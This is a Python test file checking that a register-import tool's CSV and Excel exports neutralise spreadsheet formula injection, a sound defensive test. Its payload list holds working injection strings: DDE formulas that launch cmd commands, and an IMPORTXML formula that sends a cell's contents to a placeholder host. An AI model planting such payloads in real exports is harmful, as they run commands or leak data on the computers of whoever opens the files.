"""Exports never carry a live formula (OWASP CSV injection)."""

import csv

import openpyxl
import pytest

from cakupan._tables import write_table
from cakupan.ingest import import_file, write_rejected
from cakupan.warehouse import Warehouse

# OWASP's CSV-injection examples and their usual variants.
PAYLOADS = [
    '=HYPERLINK("http://x","klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.fixture
def wh():
    with Warehouse.memory() as w:
        yield w


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_cell_is_a_formula(tmp_path, suffix):
    path = write_table(
        tmp_path / f"t{suffix}",
        ["NAMA", "JUMLAH"],
        [[p, 1] for p in PAYLOADS],
        sheet="s",
        suffixes=(".csv",),
    )
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [row[0] for row in csv.reader(handle)][1:]
        assert cells == ["'" + p for p in PAYLOADS]
    else:
        sheet = openpyxl.load_workbook(path).active
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert [c.data_type for c in cells] == ["s"] * len(PAYLOADS)
        # shown as typed, as text (XML keeps a carriage return as a line feed)
        assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS]
        assert all(c.quotePrefix for c in cells)
        assert sheet.cell(2, 2).value == 1  # numbers stay numbers


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejected_rows_of_a_hostile_list(wh, tmp_path, suffix):
    listing = tmp_path / "daftar.csv"
    with listing.open("w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["NAMA", "NIK", "TGL LAHIR", "DESA", "KECAMATAN"])
        out.writerows([p, "123", "01-01-1980", "Jabon", "Mojoanyar"] for p in PAYLOADS)
    report = import_file(wh, listing, "register")  # NIK too short: every row rejected
    assert report.rejected == len(PAYLOADS)
    path = write_rejected(report, tmp_path / f"ditolak{suffix}")
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in list(csv.reader(handle))[1:]:
                assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
    else:
        sheet = openpyxl.load_workbook(path).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
